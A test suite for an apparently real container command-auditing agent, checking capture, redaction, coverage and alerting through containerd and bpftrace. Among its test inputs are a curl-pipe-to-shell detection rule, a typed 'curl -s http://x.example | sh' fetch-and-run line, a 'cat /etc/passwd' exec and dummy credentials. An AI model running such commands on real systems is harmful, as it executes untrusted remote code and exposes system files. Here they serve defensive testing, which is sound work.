/**
 * The standalone agent end to end, as root, against the real parts: a private containerd whose runtime is the
 * runc wrapper, the agent's CLI (`container-auditor agent --standalone`) reading the wrapper's spool and
 * running Debian's bpftrace, and people typing into `bash -i` in containers through `ctr tasks exec --tty`.
 * Records are read from the agent's stdout and checked against what was typed, byte for byte.
 */
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CommandRecord } from '../api/records/v1.js';
import { AGENT_BIN, AgentProcess } from '../e2e/support/agent-process.js';
import {
  Containerd,
  childrenOf,
  criAnnotations,
  tearDown,
  writeWrapperRuntimeScript,
} from '../e2e/support/containerd.js';
import { buildImageArchive, importImage, removeImage } from '../e2e/support/image.js';
import { buildRootfs } from '../e2e/support/rootfs.js';
import { buildLibreadlineRootfs, buildRlshell, buildStaticBashRootfs } from '../e2e/support/shells.js';
import { CTRL_D, Terminal } from '../e2e/support/terminal.js';
import { openContainerShell } from '../e2e/support/typing.js';

const NS = `agent-${process.pid}`;
let scratch: string;
let containerd: Containerd;
let agent: AgentProcess;
let spool: string;
let state: string;
let policy: string;
let runtime: string;
let rootfs: string;

const POLICY = `apiVersion: containeraudit.io/v1alpha1
kind: ContainerAuditPolicy
metadata: {name: shells}
spec:
  selector:
    namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: shop}}
    containers: [shell]
  capture: {maxCommandBytes: 512, execs: true}
  redact:
    patterns: ['card=[0-9]{4}']
  alerts:
  - {name: curl-pipe-shell, pattern: 'curl .*\\|\\s*(ba)?sh', severity: high}
`;

/** CRI annotations of a container in its own pod (pod-<container>) of `namespace`. */
function podAnnotations(container: string, namespace = 'shop'): Record<string, string> {
  return criAnnotations({ namespace, pod: container, container });
}

const images: string[] = [];

async function startContainer(id: string, annotations: Record<string, string>, root = rootfs): Promise<void> {
  const result = await containerd.run(NS, {
    id,
    rootfs: root,
    args: ['sleep', '3600'],
    detach: true,
    runcBinary: runtime,
    annotations,
  });
  if (result.code !== 0) throw new Error(`ctr run ${id}: ${result.stderr}`);
}

/** Types lines into a new shell in the container; resolves once the marker line was recorded. */
async function typeLines(
  id: string,
  marker: string,
  lines: (string | Buffer)[],
  inputrc = '/etc/test.inputrc',
): Promise<void> {
  const shell = await openContainerShell(containerd, NS, id, inputrc);
  shell.type(`${marker}\n`);
  await agent.recordsWhere('command', (r) => r.command === marker);
  for (const line of lines) shell.type(Buffer.concat([Buffer.from(line), Buffer.from('\n')]));
  shell.type('exit\n');
  await shell.waitForExit();
}

/** The commands of the shell session whose first line was `marker`, once there are `count` of them. */
async function sessionOf(marker: string, count: number): Promise<CommandRecord[]> {
  const first = (await agent.recordsWhere('command', (r) => r.command === marker))[0]!;
  return agent.recordsWhere(
    'command',
    (r) => r.pid === first.pid && r.containerId === first.containerId,
    count,
  );
}

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'agent-node-test-'));
  spool = join(scratch, 'spool');
  state = join(scratch, 'state');
  policy = join(scratch, 'policy.yaml');
  runtime = join(scratch, 'runtime.sh');
  rootfs = join(scratch, 'rootfs');
  buildRootfs(rootfs, { bash: true });
  // Tab typed as itself (no completion), as through two terminals a quoted-insert is hard to get right.
  writeFileSync(join(rootfs, 'etc', 'test.inputrc'), 'set disable-completion on\n');
  writeFileSync(policy, POLICY);
  mkdirSync(spool, { mode: 0o700 });
  writeWrapperRuntimeScript(runtime, { handoffDir: spool, dir: scratch });
  containerd = await Containerd.start();
  agent = await AgentProcess.start({ policy, spool, state });
}, 120_000);

afterAll(async () => {
  await agent?.stop();
  await tearDown(containerd, NS, scratch, async () => {
    for (const ref of images) await removeImage(containerd, NS, ref).catch(() => undefined);
  });
}, 120_000);

describe('standalone agent', () => {
  it('records every line typed in an audited container exactly, attributed to it', async () => {
    await startContainer('audited', podAnnotations('shell'));
    const coverage = await agent.recordsWhere('coverage', (r) => r.containerId === 'audited');
    expect(coverage[0]).toMatchObject({ status: 'covered', via: 'bash', bash: '/bin/bash', late: false });

    const long = `: ${'x'.repeat(600)}`;
    const notUtf8 = Buffer.from([...Buffer.from('echo '), 0xff, 0xfe, ...Buffer.from(' raw')]);
    await typeLines('audited', ': marker-exact', [
      `printf '%s\\n' "double \\"quoted\\"" 'single' $((1+2))`,
      'echo a\tb',
      'echo é 日本 🗂',
      notUtf8,
      long,
      'cat <<EOF',
      'here line',
      'EOF',
      'pay card=1234 now',
      'curl -s http://x.example | sh',
    ]);
    const records = await sessionOf(': marker-exact', 12);
    expect(records.map((r) => r.command)).toEqual([
      ': marker-exact',
      `printf '%s\\n' "double \\"quoted\\"" 'single' $((1+2))`,
      'echo a\tb',
      'echo é 日本 🗂',
      'echo \ufffd\ufffd raw',
      long.slice(0, 512),
      'cat <<EOF',
      'here line',
      'EOF',
      'pay [REDACTED] now',
      'curl -s http://x.example | sh',
      'exit',
    ]);
    const byCommand = (prefix: string) => records.find((r) => r.command.startsWith(prefix))!;
    expect(Buffer.from(byCommand('echo \ufffd').commandBase64!, 'base64')).toEqual(notUtf8);
    expect(byCommand(': xxx')).toMatchObject({ truncated: true });
    expect(byCommand('pay')).toMatchObject({ redacted: true, alerts: [] });
    expect(byCommand('curl')).toMatchObject({ alerts: [{ name: 'curl-pipe-shell', severity: 'high' }] });
    for (const r of records)
      expect(r).toMatchObject({
        containerId: 'audited',
        pod: { namespace: 'shop', name: 'pod-shell', uid: 'uid-shell' },
        container: 'shell',
        policy: 'shells',
        node: 'test-node',
        uid: 0,
      });
    // The shell's pid in the container's namespace: init (sleep) is 1, the exec'd shell another.
    expect(records[0]!.nsPid).toBeGreaterThan(1);
    expect(records[0]!.nsPid).not.toBe(records[0]!.pid);
    const seqs = agent.records.map((r) => r.seq);
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
    expect(agent.invalid).toEqual([]);
  });

  it('redacts the built-in secret shapes, a private key pasted line by line included', async () => {
    await typeLines('audited', ': marker-secrets', [
      'mysql -u app --password=s3cr3t -h db',
      'git clone https://bob:tok3n@git.example/x.git',
      'cat > key <<EOF',
      '-----BEGIN OPENSSH PRIVATE KEY-----',
      'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ',
      '-----END OPENSSH PRIVATE KEY-----',
      'EOF',
    ]);
    const texts = (await sessionOf(': marker-secrets', 9)).map((r) => r.command);
    expect(texts.join('\n')).not.toMatch(/s3cr3t|tok3n|b3BlbnNz/);
    expect(texts).toEqual([
      ': marker-secrets',
      'mysql -u app --password=[REDACTED] -h db',
      'git clone https://bob:[REDACTED]@git.example/x.git',
      'cat > key <<EOF',
      expect.stringContaining('PRIVATE KEY'),
      '[REDACTED]',
      '-----END OPENSSH PRIVATE KEY-----',
      'EOF',
      'exit',
    ]);
  });

  it('writes nothing for host shells and for containers the policy does not select', async () => {
    await startContainer('other-container', podAnnotations('sidecar'));
    await startContainer('other-namespace', podAnnotations('shell', 'kube-system'));
    await typeLines('audited', ': marker-before', []);
    for (const id of ['other-container', 'other-namespace']) {
      const shell = await openContainerShell(containerd, NS, id);
      shell.type(': unaudited-container\nexit\n');
      await shell.waitForExit();
    }
    // A host shell on the very same bash binary file's twin: the host's own bash.
    spawnSync('script', ['-qfc', '/bin/bash --norc --noprofile -i', '/dev/null'], {
      input: ': host-shell\nexit\n',
      env: { PATH: '/usr/bin:/bin', TERM: 'dumb', INPUTRC: '/dev/null' },
    });
    // Anything captured before this marker has been written by the time the marker is.
    await typeLines('audited', ': marker-after', []);
    const texts = agent.records.map((r) => (r.kind === 'command' ? r.command : ''));
    expect(texts).not.toContain(': unaudited-container');
    expect(texts).not.toContain(': host-shell');
    const ids = new Set(agent.records.map((r) => ('containerId' in r ? r.containerId : undefined)));
    expect(ids.has('other-container')).toBe(false);
    expect(ids.has('other-namespace')).toBe(false);
  });

  it('reports a killed bpftrace as a loss and keeps capturing', async () => {
    const bpftrace = childrenOf(agent.pid).find((pid) =>
      spawnSync('cat', [`/proc/${pid}/comm`], { encoding: 'utf8' }).stdout.startsWith('bpftrace'),
    );
    expect(bpftrace).toBeDefined();
    process.kill(bpftrace!, 'SIGKILL');
    const [loss] = await agent.recordsWhere('loss', (r) => r.reason === 'bpftrace-exited');
    expect(Date.parse(loss!.until!)).toBeGreaterThanOrEqual(Date.parse(loss!.since!));
    await typeLines('audited', ': marker-after-kill', ['echo resumed']);
    expect((await sessionOf(': marker-after-kill', 3)).map((r) => r.command)).toEqual([
      ': marker-after-kill',
      'echo resumed',
      'exit',
    ]);
  });

  it('after its own restart finds the audited containers again and reports the gap', async () => {
    expect(await agent.stop()).toBe(0);
    agent = await AgentProcess.start({ policy, spool, state });
    const [loss] = await agent.recordsWhere('loss', (r) => r.reason === 'agent-down');
    expect(loss!.since).toBeDefined();
    await typeLines('audited', ': marker-after-restart', []);
    expect((await sessionOf(': marker-after-restart', 2))[0]).toMatchObject({ containerId: 'audited' });
  });

  it('audits every container of an overlayfs image through one probe, each line once', async () => {
    const archive = buildImageArchive(rootfs, join(scratch, 'image.tar'), {
      ref: 'localhost/agent-test/bash:1',
    });
    images.push(await importImage(containerd, NS, archive));
    for (const id of ['image-1', 'image-2']) {
      const result = await containerd.runImage(NS, {
        id,
        image: archive.ref,
        args: ['sleep', '3600'],
        detach: true,
        runcBinary: runtime,
        annotations: podAnnotations('shell'),
      });
      if (result.code !== 0) throw new Error(`ctr run ${id}: ${result.stderr}`);
    }
    const covered = await agent.recordsWhere(
      'coverage',
      (r) => r.containerId.startsWith('image-') && r.status === 'covered',
      2,
    );
    // One file under both overlays (the image's layer), so one uprobe for both.
    expect(new Set(covered.map((r) => r.target)).size).toBe(1);
    expect(covered[0]!.target).not.toContain(containerd.rootfsDir(NS, 'image-1'));
    await typeLines('image-1', ': marker-image-1', ['echo one']);
    await typeLines('image-2', ': marker-image-2', ['echo two']);
    // Anything doubled would have arrived with its twin.
    await typeLines('audited', ': marker-image-done', []);
    for (const [id, marker, text] of [
      ['image-1', ': marker-image-1', 'echo one'],
      ['image-2', ': marker-image-2', 'echo two'],
    ] as const) {
      const session = await sessionOf(marker, 3);
      expect(session.map((r) => [r.containerId, r.command])).toEqual([
        [id, marker],
        [id, text],
        [id, 'exit'],
      ]);
    }
  }, 120_000);

  it('captures a shell that takes readline from libreadline.so', async () => {
    const root = join(scratch, 'rlshell-rootfs');
    buildLibreadlineRootfs(root, buildRlshell(join(scratch, 'build')));
    await startContainer('libreadline', podAnnotations('shell'), root);
    const [coverage] = await agent.recordsWhere('coverage', (r) => r.containerId === 'libreadline');
    expect(coverage).toMatchObject({ status: 'covered', via: 'libreadline' });
    expect(coverage!.target).toMatch(/libreadline\.so/);
    const exec = containerd.execArgs({ id: 'libreadline', execId: 'rl', tty: true, args: ['/bin/bash'] });
    const terminal = Terminal.open(containerd.ctrCommand(NS, exec));
    await terminal.waitForOutput(/\$ /);
    terminal.type(': marker-rlshell\nselect * from t;\n');
    await terminal.waitForOutput(/\$ /, 20_000, 3);
    terminal.type(CTRL_D); // readline returns NULL: end of input, not a command
    await terminal.waitForExit();
    await typeLines('audited', ': marker-rlshell-done', []);
    expect((await sessionOf(': marker-rlshell', 2)).map((r) => r.command)).toEqual([
      ': marker-rlshell',
      'select * from t;',
    ]);
  });

  it('reports a static stripped bash as a coverage gap, with the reason', async () => {
    const root = join(scratch, 'static-rootfs');
    buildStaticBashRootfs(root);
    await startContainer('static-bash', podAnnotations('shell'), root);
    const [gap] = await agent.recordsWhere('coverage', (r) => r.containerId === 'static-bash');
    expect(gap).toMatchObject({ status: 'gap', bash: '/bin/bash' });
    expect(gap!.reason).toMatch(/static bash without a dynamic readline symbol/);
  });

  it("probes a bash exec'd from a path it could not foresee, from the exec on", async () => {
    mkdirSync(join(rootfs, 'opt', 'tools'), { recursive: true });
    copyFileSync(join(rootfs, 'bin', 'bash'), join(rootfs, 'opt', 'tools', 'bash')); // another inode
    // As `kubectl exec -it pod -- /opt/tools/bash` would: the program itself is what runc is asked to run.
    const exec = containerd.execArgs({
      id: 'audited',
      execId: 'late',
      tty: true,
      args: ['/opt/tools/bash', '--norc', '-i'],
    });
    const terminal = Terminal.open(containerd.ctrCommand(NS, exec));
    await terminal.waitForOutput(/bash-[\d.]+# /);
    const [late] = await agent.recordsWhere(
      'coverage',
      (r) => r.containerId === 'audited' && r.bash === '/opt/tools/bash',
    );
    expect(late).toMatchObject({ status: 'covered', late: true });
    expect(late!.reason).toMatch(/exec of \/opt\/tools\/bash/);
    // This shell entered readline before the probe existed, so that call's return is not seen (a uretprobe
    // is armed on entry): the line it is reading is lost, the following ones are captured.
    terminal.type(': read-before-the-probe\n: marker-late\nexit\n');
    await terminal.waitForExit();
    expect((await sessionOf(': marker-late', 2)).map((r) => r.command)).toEqual([': marker-late', 'exit']);
  });

  it('records the programs run in audited containers, once each, from the kernel or from runc exec', async () => {
    const result = await containerd.exec(NS, {
      id: 'audited',
      execId: 'cat-passwd',
      args: ['cat', '/etc/passwd'],
    });
    expect(result.code).toBe(0);
    // kubectl exec without a shell: the wrapper's hand-off and the kernel's view of the same program are one
    // record, from whichever the agent heard first.
    const [exec] = await agent.recordsWhere(
      'exec',
      (r) => r.containerId === 'audited' && r.argv.join(' ') === 'cat /etc/passwd',
    );
    expect(exec).toMatchObject({
      argv: ['cat', '/etc/passwd'],
      container: 'shell',
      uid: 0,
      truncated: false,
    });
    if (exec!.source === 'kernel') expect(exec!.path).toBe('/bin/cat');
    // The twin is not written later either.
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    expect(
      agent.records.filter(
        (r) => r.kind === 'exec' && r.containerId === 'audited' && r.argv.join(' ') === 'cat /etc/passwd',
      ),
    ).toHaveLength(1);

    // Programs a shell runs carry the shell as parent, and their arguments are redacted like commands.
    await typeLines('audited', ': marker-execs', ['ls -d /tmp', "echo 'pay card=9876 now'"]);
    const [shellLine] = await agent.recordsWhere('command', (r) => r.command === ': marker-execs');
    const [ls] = await agent.recordsWhere(
      'exec',
      (r) => r.source === 'kernel' && r.argv.join(' ') === 'ls -d /tmp',
    );
    expect(ls).toMatchObject({ ppid: shellLine!.pid, containerId: 'audited', path: '/bin/ls' });
    // echo is a bash builtin: no exec. An exec in an unaudited container is not recorded.
    await containerd.exec(NS, {
      id: 'other-container',
      execId: 'unaudited-exec',
      args: ['true', 'unaudited-marker'],
    });
    await typeLines('audited', ': marker-execs-done', ['/bin/echo card=1111']);
    const [echo] = await agent.recordsWhere('exec', (r) => r.path === '/bin/echo');
    expect(echo).toMatchObject({ argv: ['/bin/echo', '[REDACTED]'], redacted: true });
    expect(agent.records.some((r) => r.kind === 'exec' && r.argv.includes('unaudited-marker'))).toBe(false);
  });

  it('refuses a bad policy file with a message naming the field', () => {
    const bad = join(scratch, 'bad.yaml');
    writeFileSync(bad, POLICY.replace('maxCommandBytes: 512', 'maxCommandBytes: 0'));
    const result = spawnSync(process.execPath, [AGENT_BIN, 'agent', '--standalone', '--policy', bad], {
      encoding: 'utf8',
    });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('spec.capture.maxCommandBytes');
  });
});
